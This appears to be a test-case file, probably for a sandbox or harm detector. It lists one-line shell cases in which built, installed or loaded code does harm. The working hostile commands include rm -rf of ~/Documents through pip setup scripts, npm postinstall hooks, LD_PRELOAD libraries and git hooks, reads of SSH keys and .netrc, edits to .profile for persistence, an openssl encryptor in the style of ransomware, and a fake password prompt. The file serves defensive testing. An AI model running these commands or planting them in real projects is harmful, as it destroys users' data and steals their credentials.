# Harm in code of others that is built, installed or loaded.

# a package for pip runs its setup [pip]
mkdir p && printf 'import os, setuptools\nos.system("rm -rf ~/Documents")\nsetuptools.setup(name="p", version="1")\n' > p/setup.py
python3 -m pip -q --disable-pip-version-check install --no-index --no-build-isolation --target t ./p

# a package for pip writes where it should not when it is built [pip]
mkdir p && printf 'import os, setuptools\nopen(os.path.expanduser("~/.bashrc"), "a").write("evil")\nsetuptools.setup(name="p", version="1")\n' > p/setup.py
python3 -m pip -q --disable-pip-version-check wheel --no-index --no-build-isolation --no-deps -w t ./p

# a setup script is run by hand
printf 'import os\nos.system("rm -rf ~/Documents")\n' > setup.py && python3 setup.py install

# a package for npm runs a script after its install [npm]
mkdir p && echo '{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "rm -rf ~/Documents"}}' > p/package.json
cd p && npm install --silent --no-audit --no-fund --offline

# a script of npm sends what it finds [npm]
echo '{"scripts": {"test": "cat ~/.npmrc"}}' > package.json && npm test --silent

# a program in the packages of node is run [node]
mkdir -p node_modules/.bin && printf '#!/bin/sh\nrm -rf ~/Documents\n' > node_modules/.bin/lint
chmod +x node_modules/.bin/lint && PATH="$PWD/node_modules/.bin:$PATH" lint

# a module beside the program takes the place of one of Python's
echo 'import os; os.system("rm -rf ~/Documents")' > json.py && python3 -c 'import json'

# a module by the path for modules
mkdir m && echo 'import os; os.system("rm -rf ~/Documents")' > m/sitecustomize.py && PYTHONPATH=m python3 -c 1

# a start file by a variable of Python
echo 'import os; os.system("rm -rf ~/Documents")' > s.py && PYTHONSTARTUP=./s.py python3 -i < /dev/null

# a module of a test runner [python3]
mkdir t && echo 'import os; os.system("rm -rf ~/Documents")' > t/test_x.py && python3 -m unittest -q t.test_x; true

# a library before all others [gcc]
printf '#include <stdlib.h>\n#include <unistd.h>\n__attribute__((constructor)) void f(void) { unsetenv("LD_PRELOAD"); system("rm -rf ~/Documents"); }' > l.c
gcc -shared -fPIC -o l.so l.c && LD_PRELOAD=./l.so /bin/true

# a library in the path for libraries [gcc]
printf '#include <stdlib.h>\n__attribute__((constructor)) void f(void) { system("rm -rf ~/Documents"); }' > l.c
gcc -shared -fPIC -o l.so l.c && LD_AUDIT=./l.so true; python3 -c "import ctypes; ctypes.CDLL('./l.so')"

# a program in C removes [gcc]
printf '#include <stdio.h>\n#include <stdlib.h>\nint main() { char p[999]; snprintf(p, 999, "%%s/Documents/letter.txt", getenv("HOME")); return remove(p); }' > r.c
gcc -o r r.c && ./r

# a program in C, linked without libraries, kills [gcc]
printf '#include <signal.h>\n#include <stdlib.h>\nint main(int n, char **a) { return kill(atoi(a[1]), SIGKILL); }' > k.c
gcc -static -o k k.c && ./k "$CANARY"

# a program in C++ reads a key [g++]
printf '#include <fstream>\n#include <iostream>\nint main(int n, char **a) { std::cout << std::ifstream(a[1]).rdbuf(); }' > r.cc
g++ -o r r.cc && ./r ~/.ssh/id_ed25519

# a program in assembly truncates a document [gcc]
cat > t.s <<'S'
.globl main
main: mov 8(%rsi), %rdi
 xor %esi, %esi
 mov $76, %eax
 syscall
 xor %eax, %eax
 ret
S
gcc -no-pie -o t t.s && ./t ~/Documents/letter.txt

# a compiler includes a secret file [gcc]
printf '.incbin "%s/.ssh/id_ed25519"\n' "$HOME" > i.s && gcc -c i.s -o i.o && cat i.o

# a compiler reports the lines of a secret file [gcc]
gcc -fsyntax-only -include ~/.netrc -x c /dev/null; true

# a program first in the path
mkdir bin && printf '#!/bin/sh\nrm -rf ~/Documents\n' > bin/ls && chmod +x bin/ls && PATH="$PWD/bin:$PATH" ls

# a downloaded installer
printf '#!/bin/sh\nrm -rf "$HOME/Documents"\n' > install.sh && cat install.sh | sh

# an installer that makes itself at home
printf '#!/bin/sh\nmkdir -p ~/.evil && cp "$0" ~/.evil/ && echo "~/.evil/x &" >> ~/.profile\n' > i.sh && sh i.sh

# an archive that unpacks itself
{ echo 'tail -n +3 "$0" | sh'; echo exit; echo 'rm -rf ~/Documents'; } > self.sh && sh self.sh

# a rule for make in a foreign project [make]
printf 'install:\n\tinstall -D Makefile $(HOME)/.local/share/evil\n' > Makefile && make -s install

# a check of a configure script
printf '#!/bin/sh\necho "checking for gcc... yes"\n(rm -rf ~/Documents) 2>/dev/null\n' > configure && sh ./configure

# a build script of a foreign project in Java [java]
printf 'class B { public static void main(String[] a) throws Exception { new ProcessBuilder("rm", "-rf", System.getenv("HOME") + "/Documents").start().waitFor(); } }' > B.java
java -XX:TieredStopAtLevel=1 B.java

# a hook of a foreign repository that was cloned [git]
git init -q up && (cd up && git commit -q --allow-empty -m x) && git clone -q up down && printf '#!/bin/sh\nrm -rf ~/Documents\n' > down/.git/hooks/pre-commit && chmod +x down/.git/hooks/pre-commit && git -C down commit -q --allow-empty -m x

# a foreign repository whose settings run a program [git]
git init -q up && git -C up config core.fsmonitor 'rm -rf ~/Documents; false' && git -C up status --short

# a lock file of a build that points upwards
mkdir out && ln -s ~/Documents out/dist && rm -rf out/dist/*

# a cleaning step with an empty variable
rm -rf "$HOME/$PREFIX_THAT_IS_EMPTY"Documents

# an encryptor for ransom [openssl]
find ~/Documents -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -k x -in "$f" -out "$f.enc" && rm "$f"; done

# a miner that stays
cp /bin/sleep miner && (setsid ./miner 60 > /dev/null 2>&1 &)

# a miner that stays, without an environment
cp /bin/sleep miner && (env -i setsid ./miner 60 > /dev/null 2>&1 &)
sleep 0.3

# a miner that forks twice and loses its environment
python3 - <<'PY'
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sleep", ["kworker", "60"], {})
    os._exit(0)
os.wait()
time.sleep(0.3)
PY

# a job in the background of the shell
sleep 60 > /dev/null 2>&1 &
disown

# a process that ignores its end
nohup sh -c 'trap "" TERM HUP INT; sleep 60 & sleep 60' > /dev/null 2>&1 &

# a process that was stopped
sleep 60 > /dev/null 2>&1 & kill -STOP $!

# a daemon that a debugger holds [gdb]
(timeout 60 gdb -batch -nx -ex run --args sleep 60 > /dev/null 2>&1 &)
sleep 0.3

# a server that listens [python3]
(setsid python3 -m http.server --bind 127.0.0.1 0 > /dev/null 2>&1 &)
sleep 0.2

# text in the terminal of a person
printf '\033]0;evil\007 enter your password: ' > "$TERMINAL"
